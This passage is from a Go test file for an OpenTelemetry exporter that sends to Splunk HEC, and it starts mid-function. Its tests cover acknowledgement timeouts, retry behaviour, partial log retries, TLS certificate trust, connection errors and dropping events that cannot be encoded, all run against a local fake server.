		for _, r := range reqs {
			assert.Equal(t, exp.channel, r.channel)
		}
		assert.Equal(t, 2, hec.ackPollCount(), "all ackIds polled together")
	})

	t.Run("ack never arrives", func(t *testing.T) {
		hec := newFakeHEC(t, testToken)
		hec.useAck = true
		hec.ackAfterPolls = -1
		exp := startRaw(t, ackCfg(hec.endpoint(), 150*time.Millisecond), signalTraces, exportertest.NewNopSettings(metadata.Type))

		start := time.Now()
		err := exp.pushTraces(context.Background(), makeTraces(10))
		require.Error(t, err)
		assert.GreaterOrEqual(t, time.Since(start), 150*time.Millisecond)
		assert.False(t, consumererror.IsPermanent(err), "retryable so the queue sends the batch again")
		assert.Contains(t, err.Error(), "no indexer acknowledgement within 150ms")
		var tracesErr consumererror.Traces
		require.ErrorAs(t, err, &tracesErr)
		assert.Equal(t, 10, tracesErr.Data().SpanCount(), "the unacknowledged batch is handed back")
	})

	t.Run("ack timeout is retried by exporterhelper: at-least-once", func(t *testing.T) {
		hec := newFakeHEC(t, testToken)
		hec.useAck = true
		hec.ackAfterPolls = 0
		hec.neverAck = map[int64]bool{0: true} // the first request is lost before indexing
		cfg := ackCfg(hec.endpoint(), 50*time.Millisecond)
		fastRetry(cfg)
		exp := startTraces(t, cfg, exportertest.NewNopSettings(metadata.Type))
		require.NoError(t, exp.ConsumeTraces(context.Background(), makeTraces(5)))
		assert.Equal(t, 2, hec.eventRequestCount(), "sent again after the ack timeout")
		ids := eventSpanIDs(t, hec.recordedEvents())
		assert.Len(t, ids, 5)
		for id, c := range ids {
			assert.Equal(t, 2, c, "span %s: the server saw both copies; Splunk indexed only the acknowledged one", id)
		}
	})

	t.Run("token without useACK: no ackId, warned once", func(t *testing.T) {
		hec := newFakeHEC(t, testToken)
		set, logs := observedSettings(zapcore.WarnLevel)
		exp := startRaw(t, ackCfg(hec.endpoint(), time.Second), signalTraces, set)
		require.NoError(t, exp.pushTraces(context.Background(), makeTraces(2)))
		require.NoError(t, exp.pushTraces(context.Background(), makeTraces(2)))
		assert.Equal(t, 1, logs.FilterMessageSnippet("returned no ackId").Len())
		assert.Equal(t, 0, hec.ackPollCount())
	})
}

func TestLogsRetryKeepsOnlyRemainingRecords(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	hec.intercept = func(w http.ResponseWriter, _ *http.Request, n int) bool {
		if n != 2 {
			return false
		}
		hecReply(w, http.StatusServiceUnavailable, "Server is busy", 9)
		return true
	}
	cfg := testConfig(hec.endpoint())
	cfg.MaxContentLengthLogs = 1024
	exp := startRaw(t, cfg, signalLogs, exportertest.NewNopSettings(metadata.Type))
	ld := plog.NewLogs()
	lrs := ld.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords()
	for i := 0; i < 30; i++ {
		lrs.AppendEmpty().Body().SetStr(fmt.Sprintf(`{"finding":%d,"pad":"%s"}`, i, strings.Repeat("x", 100)))
	}
	err := exp.pushLogs(context.Background(), ld)
	require.Error(t, err)
	var logsErr consumererror.Logs
	require.ErrorAs(t, err, &logsErr)
	delivered := len(hec.recordedEvents())
	require.Positive(t, delivered)
	assert.Equal(t, 30-delivered, logsErr.Data().LogRecordCount(), "only the records not yet accepted are retried")
	first := logsErr.Data().ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(0).Body().Str()
	assert.Contains(t, first, fmt.Sprintf(`{"finding":%d,`, delivered))
}

func TestTLS(t *testing.T) {
	hec := newFakeHECTLS(t, testToken)
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	require.NoError(t, os.WriteFile(caFile, certPEM(hec), 0o600))

	t.Run("trusted CA", func(t *testing.T) {
		cfg := testConfig(hec.endpoint())
		cfg.ClientConfig.TLS.CAFile = caFile
		exp := startRaw(t, cfg, signalTraces, exportertest.NewNopSettings(metadata.Type))
		require.NoError(t, exp.pushTraces(context.Background(), makeTraces(3)))
		assert.Len(t, hec.recordedEvents(), 3)
	})
	t.Run("unknown CA is a retryable transport error", func(t *testing.T) {
		exp := startRaw(t, testConfig(hec.endpoint()), signalTraces, exportertest.NewNopSettings(metadata.Type))
		err := exp.pushTraces(context.Background(), makeTraces(3))
		require.Error(t, err)
		assert.False(t, consumererror.IsPermanent(err))
		assert.Contains(t, err.Error(), "certificate")
	})
}

// certPEM returns the test server's certificate as a PEM CA file.
func certPEM(h *fakeHEC) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: h.srv.Certificate().Raw})
}

func TestNotStarted(t *testing.T) {
	exp, err := newExporter(exportertest.NewNopSettings(metadata.Type), testConfig("http://127.0.0.1:1/services/collector"), signalTraces)
	require.NoError(t, err)
	err = exp.pushTraces(context.Background(), makeTraces(1))
	require.Error(t, err)
	assert.True(t, consumererror.IsPermanent(err))
}

func TestConnectionRefusedIsRetryable(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	endpoint := hec.endpoint()
	hec.srv.Close()
	exp := startRaw(t, testConfig(endpoint), signalTraces, exportertest.NewNopSettings(metadata.Type))
	err := exp.pushTraces(context.Background(), makeTraces(1))
	require.Error(t, err)
	assert.False(t, consumererror.IsPermanent(err))
	assert.True(t, errors.As(err, new(consumererror.Traces)))
}

func TestUnencodableEventDropped(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	set, tel := exporterkittest.TelemetrySettings(t, metadata.Type)
	exp := startRaw(t, testConfig(hec.endpoint()), signalTraces, set)

	td := makeTraces(4)
	td.ResourceSpans().At(0).ScopeSpans().At(0).Spans().At(0).Attributes().PutDouble("score", math.NaN())
	require.NoError(t, exp.pushTraces(context.Background(), td))
	assert.Len(t, hec.recordedEvents(), 3)
	assertDropped(t, tel, map[string]int64{dropMarshalError: 1})
}
